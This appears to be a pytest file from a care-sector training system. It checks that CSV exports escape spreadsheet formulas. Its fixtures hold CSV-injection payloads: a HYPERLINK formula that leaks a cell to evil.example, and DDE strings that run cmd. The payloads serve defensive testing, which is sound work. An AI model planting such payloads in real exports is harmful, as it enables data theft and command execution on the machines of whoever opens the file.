"""Exports a manager or inspector opens in a spreadsheet never carry a formula (CSV injection):
the CQC evidence pack CSV, the audit history CSV and the ASC-WDS upload."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

from flask import Flask

from lms import audit
from lms.compliance import org_compliance
from lms.csvsafe import cell
from lms.employer import service as employer
from lms.employer.pack import pack_csv
from lms.extensions import db
from lms.external import service as external
from lms.models import Role
from tests.lms import employer_helpers as h

PROVIDER = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "-2+3+cmd|' /C calc'!A0"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_cell_rule() -> None:
    assert cell("=1+1") == "'=1+1" and cell("+x") == "'+x" and cell("-x") == "'-x"
    assert cell("@x") == "'@x" and cell("\tx") == "'\tx"
    assert cell("Oakview Care") == "Oakview Care" and cell(-3) == -3 and cell(None) is None


def test_no_export_starts_a_cell_with_a_formula(
    app: Flask, catalogue: None, tmp_path: Path
) -> None:
    org = h.org("acme", ascwds_workplace_id="J1234567")
    manager = h.user("m@acme.test", "Manager", org, Role.MANAGER)
    worker = h.user("w@acme.test", "Worker", org, Role.LEARNER)
    role = h.job_role(org, "Care worker")
    h.require(role, "OMMT-E")
    h.employ(org, worker, role, None, "W1")
    now = datetime.now(UTC)
    record = external.record_external(
        db.session,
        org,
        manager,
        external.ExternalInput(
            user_id=worker.id,
            module_code="OMMT-E",
            provider_name=PROVIDER,
            completed_on=date.today(),
            delivery_mode="e_learning",
            accredited="no",
            evidence_ref="certificate seen",
            notes=NOTES,
        ),
        now,
        tmp_path,
    )
    db.session.commit()

    ascwds = _cells(employer.ascwds_csv(employer.ascwds_rows(db.session, org.id, now)))
    assert not any(c.startswith(("=", "+", "-", "@")) for c in ascwds), ascwds
    assert any(c.startswith("HYPERLINK(") for c in ascwds)  # the text is kept, minus the "="

    matrix = org_compliance(db.session, org.id, now)
    pack = _cells(pack_csv(matrix, {record.id: record.completion}, "stamp"))
    assert not any(c.startswith(("=", "+", "-", "@")) for c in pack)
    assert "'" + PROVIDER in pack and "'" + NOTES in pack

    external.withdraw_external(db.session, org, manager, record.id, REASON, now)
    db.session.commit()
    history = _cells(audit.history_csv(audit.history(db.session, org.id, worker.id)))
    assert not any(c.startswith(("=", "+", "-", "@")) for c in history)
    assert "'" + REASON in history
